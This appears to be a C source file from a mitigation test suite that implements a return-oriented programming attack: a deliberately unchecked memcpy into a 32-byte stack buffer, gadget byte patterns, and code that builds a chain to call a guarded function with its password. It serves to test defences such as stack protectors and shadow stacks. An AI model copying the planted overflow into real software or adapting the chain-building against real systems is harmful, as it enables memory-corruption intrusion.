/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Return-oriented programming: a linear overflow puts a chain of places behind the buffer. They are gadgets that the
 * image has anywhere in its bytes, which load an argument, and a function of the kernel's that asks for it.
 */
#include "attacks.h"

#define PASSWORD UINT64_C(0x70617373776f7264)

static struct attack_frame frame;

/* Nobody calls it with the password. */
static NOINLINE void vault(uint64_t password)
{
	if (attack_opaque(password) == PASSWORD)
		attack_goal();
}

/* The mistake: len is the sender's. */
static NOINLINE unsigned first_byte(const void *message, size_t len)
{
	uint8_t copy[32] = { 0 };
	uint8_t *bytes = attack_opaque(&copy[0]);

	attack_frame_note(&frame, copy);
	memcpy(bytes, message, len);
	return bytes[0];
}

static bool benign(const struct attack *attack)
{
	vault(0);
	return first_byte("x", 1) == 'x';
}

/* The chain, and how many words it has; 0: the image has no such gadgets. */
static size_t make_chain(uint64_t chain[8], uintptr_t slide)
{
	static const uint8_t pop_rdi[] = { 0x5f, 0xc3 };
	/* The end of a switch of threads: pop %r12; pop %rbx; pop %rbp; ret. */
	static const uint8_t pops[] = { 0x41, 0x5c, 0x5b, 0x5d, 0xc3 };
	/* The start of a thread: mov %rbx, %rdi; mov %r12, %rsi; call, which calls the one with the other. */
	static const uint8_t begin[] = { 0x48, 0x89, 0xdf, 0x4c, 0x89, 0xe6, 0xe8 };
	uint64_t target = attack_linked_code(vault) + slide;
	uintptr_t first = attack_gadget(pop_rdi, sizeof(pop_rdi)), last;

	if (first) {
		memcpy(chain, (const uint64_t[]){ first + slide, PASSWORD, target }, 3 * sizeof(*chain));
		return 3;
	}
	first = attack_gadget(pops, sizeof(pops));
	last = attack_gadget(begin, sizeof(begin));
	if (!first || !last)
		return 0;
	memcpy(chain, (const uint64_t[]){ first + slide, PASSWORD, target, 0, last + slide }, 5 * sizeof(*chain));
	return 5;
}

static void overflow(const struct attack *attack, uintptr_t slide)
{
	uint64_t chain[8];
	size_t len = make_chain(chain, slide) * sizeof(*chain);
	uint8_t message[256] = { 0 };

	if (!len)
		attack_not_applicable(attack, "the image has no gadgets for it");
	benign(attack);
	memcpy(message + frame.to_return, chain, len);
	attack_primitive(attack);
	first_byte(message, (size_t)frame.to_return + len);
}
ATTACK_BODY(overflow)

ATTACK(rop, .family = "code reuse", .primitive = LINEAR_OVERFLOW, .knowledge = LAYOUT_KNOWN,
       .stopped_by = "stackprotector shadowstack layout", .about = "a chain of a gadget, its argument and a function",
       .run = run, .benign = benign, .adaptive = adaptive);
